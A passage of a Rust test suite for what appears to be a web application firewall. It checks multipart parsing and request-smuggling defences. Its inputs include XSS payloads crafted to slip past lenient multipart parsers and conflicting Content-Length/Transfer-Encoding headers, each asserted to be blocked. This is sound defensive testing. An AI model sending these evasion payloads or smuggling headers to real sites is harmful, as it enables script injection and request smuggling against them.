            let v = verdict(Request::new("GET", &format!("/s/tea/p/x?u={benign}")));
            assert!(!names(&v).contains(&"ssrf.short-ip"), "{benign}: {:?}", names(&v));
        }
    }

    #[test]
    fn multipart_is_read_as_strict_parsers_read_it() {
        let post = |ctype: &str, body: &str| {
            verdict(
                Request::new("POST", "/admin/stores/tea/products/1/images")
                    .header("content-type", ctype)
                    .body(body.to_owned()),
            )
        };
        let mp = "multipart/form-data; boundary=b";
        // A delimiter inside a value is content: the value is read to the real delimiter.
        let v = post(
            mp,
            "--b\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nx--b-- <script>alert(1)</script>\r\n--b--\r\n",
        );
        assert!(names(&v).iter().any(|r| r.starts_with("xss.")), "{:?}", names(&v));
        // A field without a file name is text, whatever type it declares.
        let v = post(
            mp,
            "--b\r\nContent-Disposition: form-data; name=\"alt\"\r\nContent-Type: application/octet-stream\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n",
        );
        assert!(names(&v).iter().any(|r| r.starts_with("xss.")), "{:?}", names(&v));
        // Headers that run on into the next part (read so by some parsers) are refused, not skipped.
        let v = post(
            mp,
            "--b\r\nContent-Disposition: form-data; name=\"alt\"\r\n--b\r\nContent-Type: image/png\r\n\r\n<script>x</script>\r\n--b--\r\n",
        );
        assert!(names(&v).contains(&"protocol.body-unread"), "{:?}", names(&v));
        // An empty boundary would make every `--` a delimiter.
        let v = post("multipart/form-data; boundary=", "----\r\n\r\n<script>x</script>");
        assert_eq!(v.action, Action::Block);
        // An ordinary upload: a file part (skipped) and a caption.
        let v = post(
            mp,
            "--b\r\nContent-Disposition: form-data; name=\"image\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\u{1}PNG--b--\r\n--b\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nGreen tea, 100 g\r\n--b--\r\n",
        );
        assert_eq!(v.action, Action::Allow, "{:?}", names(&v));
    }

    #[test]
    fn smuggling_shaped_framing_is_refused() {
        let req =
            Request::new("POST", "/cart/add").header("content-length", "5").header("transfer-encoding", "chunked");
        assert_eq!(verdict(req).action, Action::Block);
        let req = Request::new("POST", "/cart/add").header("content-length", "5").header("content-length", "6");
        assert_eq!(verdict(req).action, Action::Block);
    }
}
